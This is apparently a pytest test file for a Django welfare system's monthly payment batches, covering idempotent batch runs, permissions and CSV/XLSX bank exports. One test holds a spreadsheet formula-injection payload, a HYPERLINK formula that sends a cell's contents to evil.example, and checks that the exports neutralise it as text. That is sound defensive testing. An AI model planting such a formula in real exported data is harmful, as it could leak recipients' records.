"""Monthly payment batches (SPEC §4.3): once per month, one payment per enrollment in force on the month's
first day at the amount in force that day, idempotent, run by a real Celery worker, exported for the bank
(CSV and XLSX) with reconciling totals."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command

from assistance import jobs
from assistance.models import Enrollment, EnrollmentAmount, JobStatus, Payment, PaymentBatch
from assistance.rules import Category
from assistance.workflow import EnrollmentStatus
from civil_affairs.accounts.models import Role
from civil_affairs.audit.models import AuditEvent
from civil_affairs.errors import Conflict
from civil_affairs.exports import XLSX_TYPE
from civil_affairs.people.models import Person
from tests.assistance.factories import EnrollmentFactory, household_with
from tests.helpers import wait_for

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("divisions")]

BATCHES = "/api/v1/assistance/payment-batches/"
JULY = datetime.date(2024, 7, 1)


@pytest.fixture
def compiled_catalogue(settings):
    """The .mo files are git-ignored: compile them as `make test` does, then have Django reload its catalogues."""
    call_command("compile_translations", stdout=io.StringIO())
    settings.LOCALE_PATHS = [*settings.LOCALE_PATHS]


def run_batch(month, **options):
    batch = jobs.payment_batch_create(actor=None, month=month, queue_job=False)
    return jobs.payment_batch_run(batch_id=batch.pk, **options)


def paid(batch):
    return dict(Payment.objects.filter(batch=batch).values_list("enrollment_id", "amount"))


def test_a_batch_pays_each_enrollment_in_force_on_the_months_first_day_once_on_the_worker(
    api_as, reviewer, celery_worker_running
):
    whole_month = EnrollmentFactory(start=datetime.date(2024, 1, 1))
    from_first_day = EnrollmentFactory(
        start=JULY, category=Category.DISABILITY_CARE, standard=Decimal("100.00"), covered_count=1
    )
    EnrollmentFactory(start=datetime.date(2024, 7, 20), standard=Decimal("900.00"))  # not started on 1 July
    ends_in_month = EnrollmentFactory(end=datetime.date(2024, 7, 10))
    EnrollmentFactory(end=datetime.date(2024, 6, 30))  # ended before the month
    EnrollmentFactory(start=datetime.date(2024, 8, 1))  # not yet started
    EnrollmentFactory(status=EnrollmentStatus.SUSPENDED)  # suspended since its start
    # Terminated today, in force until the end of the year: paid by what held on 1 July, not by today's status.
    ends_later = EnrollmentFactory(
        status=EnrollmentStatus.TERMINATED, end=datetime.date(2024, 12, 31), standard=Decimal("900.00")
    )

    response = api_as(reviewer).post(BATCHES, {"month": "2024-07"}, format="json")

    assert response.status_code == 202, response.json()
    assert response.json()["status"] == "queued"
    batch_id = response.json()["id"]
    wait_for(lambda: PaymentBatch.objects.get(pk=batch_id).status == JobStatus.COMPLETED)
    batch = PaymentBatch.objects.get(pk=batch_id)
    assert paid(batch) == {
        whole_month.pk: Decimal("1000.00"),
        from_first_day.pk: Decimal("100.00"),
        ends_in_month.pk: Decimal("1000.00"),
        ends_later.pk: Decimal("900.00"),
    }
    assert set(Payment.objects.filter(batch=batch).values_list("month", flat=True)) == {JULY}
    assert (batch.count, batch.total) == (4, Decimal("3000.00"))
    body = api_as(reviewer).get(f"{BATCHES}{batch_id}/").json()
    assert body == {
        "id": batch_id,
        "month": "2024-07",
        "status": "completed",
        "count": 4,
        "total": "3000.00",
        "created_at": body["created_at"],
        "finished_at": body["finished_at"],
        "error": "",
    }


def test_a_second_batch_for_the_month_is_409_and_creates_nothing(api_as, reviewer):
    EnrollmentFactory()
    client = api_as(reviewer)

    first = client.post(BATCHES, {"month": "2024-07"}, format="json")
    second = client.post(BATCHES, {"month": "2024-07"}, format="json")

    assert first.status_code == 202
    assert second.status_code == 409
    assert "2024-07" in second.json()["detail"]
    assert PaymentBatch.objects.count() == 1
    assert not Payment.objects.exists()
    assert AuditEvent.objects.filter(object_type="assistance.paymentbatch", action="create").count() == 1


def test_the_service_refuses_a_second_batch_for_the_month_with_a_conflict():
    jobs.payment_batch_create(actor=None, month=JULY, queue_job=False)

    with pytest.raises(Conflict):
        jobs.payment_batch_create(actor=None, month=datetime.date(2024, 7, 15), queue_job=False)

    assert PaymentBatch.objects.count() == 1


def test_each_month_is_paid_the_amount_in_force_on_its_first_day():
    enrollment = EnrollmentFactory(start=datetime.date(2024, 1, 1))  # 1000.00 from 2024-01-01
    for effective_from, amount in ((JULY, "1100.00"), (datetime.date(2024, 8, 15), "1200.00")):
        EnrollmentAmount.objects.create(
            enrollment=enrollment, effective_from=effective_from, monthly_amount=Decimal(amount)
        )

    amounts = {month: paid(run_batch(datetime.date(2024, month, 1)))[enrollment.pk] for month in (6, 7, 8, 9)}

    assert amounts == {
        6: Decimal("1000.00"),
        7: Decimal("1100.00"),
        8: Decimal("1100.00"),  # the change of 15 August is in force on 1 September
        9: Decimal("1200.00"),
    }


def test_running_a_batch_again_after_a_lost_worker_creates_nothing_twice():
    enrollments = [EnrollmentFactory(standard=Decimal(900 + i)) for i in range(7)]
    batch = jobs.payment_batch_create(actor=None, month=JULY, queue_job=False)
    # A first attempt committed its first chunk, then its worker died: the batch is left "running".
    jobs.payment_batch_run(batch_id=batch.pk, chunk_size=3)
    first_rows = set(Payment.objects.values_list("id", "enrollment_id", "amount"))
    Payment.objects.filter(enrollment__in=enrollments[3:]).delete()
    PaymentBatch.objects.filter(pk=batch.pk).update(status=JobStatus.RUNNING, count=0, total=0)

    again = jobs.payment_batch_run(batch_id=batch.pk, chunk_size=2)
    once_more = jobs.payment_batch_run(batch_id=batch.pk)

    rows = Payment.objects.filter(batch=batch)
    assert rows.count() == 7
    assert {(p.enrollment_id, p.amount) for p in rows} == {(e.pk, e.monthly_amount) for e in enrollments}
    assert first_rows >= {
        (r.id, r.enrollment_id, r.amount) for r in rows.filter(enrollment__in=enrollments[:3])
    }
    assert (again.status, again.count, again.total) == (JobStatus.COMPLETED, 7, Decimal(sum(range(900, 907))))
    assert (once_more.count, once_more.total) == (again.count, again.total)


def test_a_completed_batch_is_left_as_it_is_when_its_job_runs_again():
    EnrollmentFactory()
    batch = run_batch(JULY)
    EnrollmentFactory()  # enrolled after the batch ran

    again = jobs.payment_batch_run(batch_id=batch.pk)

    assert Payment.objects.count() == 1
    assert (again.count, again.total) == (1, Decimal("1000.00"))
    assert AuditEvent.objects.filter(object_type="assistance.paymentbatch", action="complete").count() == 1


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body[1:])))


def read_xlsx(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def with_bank_details(enrollment, payee, account, bank):
    Enrollment.objects.filter(pk=enrollment.pk).update(payee=payee, bank_account=account, bank_name=bank)
    return enrollment


def test_the_bank_file_lists_every_payment_and_its_totals_reconcile_with_the_batch(api_as, reviewer):
    gap = with_bank_details(
        EnrollmentFactory(
            household=household_with(["1000.01", "0"]),
            total_income=Decimal("1000.01"),
            member_count=2,
            covered_count=1,
        ),  # (2000 − 1000.01) / 2 = 499.995 → 500.00
        "王秀英",
        "6228480012345678901",
        "中国农业银行济南章丘支行",
    )
    flat = EnrollmentFactory(category=Category.ORPHAN_COMMUNITY, standard=Decimal("1500.00"))
    third = EnrollmentFactory(standard=Decimal("987.65"))
    batch = run_batch(JULY)

    response = api_as(reviewer).get(f"{BATCHES}{batch.pk}/export/")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="payments-2024-07.csv"' in response["Content-Disposition"]
    header, *lines, blank, total_line = read_csv(response)
    assert header == ["Payee", "ID number", "Bank account", "Bank", "Amount (yuan)", "Category", "Enrollment"]
    head = gap.household.members.get(relation="self").person
    # Digit strings an importer must keep as text (an 18-digit ID would be rounded as a number).
    id_text = f'="{head.id_number}"' if head.id_number.isdigit() else head.id_number
    assert lines[0] == [
        "王秀英",
        id_text,
        '="6228480012345678901"',
        "中国农业银行济南章丘支行",
        "500.00",
        "Urban minimum living allowance",
        str(gap.pk),
    ]
    flat_head = flat.household.members.get(relation="self").person
    assert lines[1][0] == flat_head.name  # no payee recorded: the household head, account left blank
    assert lines[1][2:6] == ["", "", "1500.00", "Orphans in the community"]
    assert [line[6] for line in lines] == [str(gap.pk), str(flat.pk), str(third.pk)]
    # The total is outside the data rows: after an empty row, under the amounts.
    assert blank == []
    assert total_line == ["Total: 3 payments", "", "", "", "2987.65", "", ""]
    assert sum(Decimal(line[4]) for line in lines) == batch.total == Decimal("2987.65")
    event = AuditEvent.objects.get(
        object_type="assistance.paymentbatch", object_id=str(batch.pk), action="export"
    )
    assert event.changes["format"] == [None, "csv"]
    assert event.changes["payments"] == [None, 3]


def test_a_formula_in_a_name_comes_out_of_the_bank_file_as_text(api_as, reviewer):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
    by_head = EnrollmentFactory()
    head = by_head.household.members.get(relation="self").person
    Person.objects.filter(pk=head.pk).update(name=attack)
    by_payee = with_bank_details(EnrollmentFactory(), attack, "6222021234567890123", "@SUM(1+1)")
    batch = run_batch(JULY)
    client = api_as(reviewer)

    _, *lines, _, _ = read_csv(client.get(f"{BATCHES}{batch.pk}/export/"))
    rows = read_xlsx(client.get(f"{BATCHES}{batch.pk}/export/", {"format": "xlsx"}))

    assert [line[0] for line in lines] == ["'" + attack, "'" + attack]
    assert lines[1][3] == "'@SUM(1+1)"
    assert [row[0] for row in rows[1:3]] == ["'" + attack, "'" + attack]
    assert rows[2][3] == "'@SUM(1+1)"
    assert by_payee.pk  # both rows neutralised, whichever field carried the formula


def test_the_bank_file_as_xlsx_keeps_id_and_account_numbers_as_text_and_the_total_apart(api_as, reviewer):
    enrollment = with_bank_details(EnrollmentFactory(), "李建国", "6217000010012345678", "中国建设银行")
    head = enrollment.household.members.get(relation="self").person
    batch = run_batch(JULY)

    response = api_as(reviewer).get(f"{BATCHES}{batch.pk}/export/", {"format": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    assert 'filename="payments-2024-07.xlsx"' in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][:6] == [
        "Payee",
        "ID number",
        "Bank account",
        "Bank",
        "Amount (yuan)",
        "Category",
    ]
    data = rows[1]
    assert (data[1].value, data[1].data_type) == (head.id_number, "s")
    assert (data[2].value, data[2].data_type) == ("6217000010012345678", "s")
    assert Decimal(str(data[4].value)) == Decimal("1000.00")
    assert all(c.value is None for c in rows[2])  # the empty row: the total is not a data row
    assert rows[3][0].value == "Total: 1 payments"
    assert Decimal(str(rows[3][4].value)) == Decimal("1000.00")
    assert AuditEvent.objects.get(object_type="assistance.paymentbatch", action="export").changes[
        "format"
    ] == [
        None,
        "xlsx",
    ]


def test_the_bank_file_page_names_columns_and_categories_in_simplified_chinese(
    client, reviewer, compiled_catalogue
):
    with_bank_details(EnrollmentFactory(), "张桂兰", "6228480012345678901", "中国农业银行")
    batch = run_batch(JULY)
    client.force_login(reviewer)

    header, line, _, total = read_csv(client.get(f"/assistance/payment-batches/{batch.pk}/export/"))
    rows = read_xlsx(client.get(f"/assistance/payment-batches/{batch.pk}/export/", {"format": "xlsx"}))

    assert header[:6] == ["收款人", "身份证号码", "银行账号", "开户银行", "金额（元）", "救助类别"]
    assert line[5] == "城市最低生活保障"
    assert total[0] == "合计：1 笔"
    assert rows[0][:6] == header[:6]
    assert rows[1][5] == "城市最低生活保障"
    assert AuditEvent.objects.filter(object_type="assistance.paymentbatch", action="export").count() == 2


def test_the_bank_file_holds_only_the_callers_jurisdiction(api_as, make_user):
    mingshui = EnrollmentFactory(division_id="370114001001")
    EnrollmentFactory(division_id="370114002001")
    batch = run_batch(JULY)
    town_reviewer = make_user(Role.DISTRICT_REVIEWER, "370114001")

    _, *lines, _, total_line = read_csv(api_as(town_reviewer).get(f"{BATCHES}{batch.pk}/export/"))

    assert [line[6] for line in lines] == [str(mingshui.pk)]
    assert total_line[0] == "Total: 1 payments"
    assert total_line[4] == "1000.00"


def test_a_batch_that_has_not_completed_cannot_be_exported(api_as, reviewer):
    batch = jobs.payment_batch_create(actor=None, month=JULY, queue_job=False)

    response = api_as(reviewer).get(f"{BATCHES}{batch.pk}/export/")

    assert response.status_code == 409
    assert "detail" in response.json()


@pytest.mark.parametrize("month", ["2024-13", "2024-7", "2024/07", "2024-07-01", "", None, 202407])
def test_a_month_that_is_not_yyyy_mm_is_400_naming_month(api_as, reviewer, month):
    response = api_as(reviewer).post(BATCHES, {"month": month}, format="json")

    assert response.status_code == 400
    assert list(response.json()) == ["month"]
    assert not PaymentBatch.objects.exists()


def test_a_missing_month_is_400_naming_month(api_as, reviewer):
    response = api_as(reviewer).post(BATCHES, {}, format="json")

    assert response.status_code == 400
    assert list(response.json()) == ["month"]


@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.VIEWER, Role.API_CLIENT])
def test_only_deciders_open_a_batch(api_as, make_user, role):
    response = api_as(make_user(role, "370114")).post(BATCHES, {"month": "2024-07"}, format="json")

    assert response.status_code == 403
    assert not PaymentBatch.objects.exists()


@pytest.mark.parametrize(
    ("role", "status"),
    [(Role.ADMINISTRATOR, 200), (Role.API_CLIENT, 200), (Role.CASEWORKER, 403), (Role.VIEWER, 403)],
)
def test_batches_are_read_by_deciders_and_the_api_client_only(api_as, make_user, role, status):
    batch = run_batch(JULY)
    client = api_as(make_user(role, "370114"))

    assert client.get(BATCHES).status_code == status
    assert client.get(f"{BATCHES}{batch.pk}/").status_code == status
    assert client.get(f"{BATCHES}{batch.pk}/export/").status_code == status


def test_the_batch_list_is_paginated_newest_month_first(api_as, reviewer):
    for month in (5, 7, 6):
        run_batch(datetime.date(2024, month, 1))

    body = api_as(reviewer).get(BATCHES, {"status": "completed"}).json()

    assert body["count"] == 3
    assert [row["month"] for row in body["results"]] == ["2024-07", "2024-06", "2024-05"]
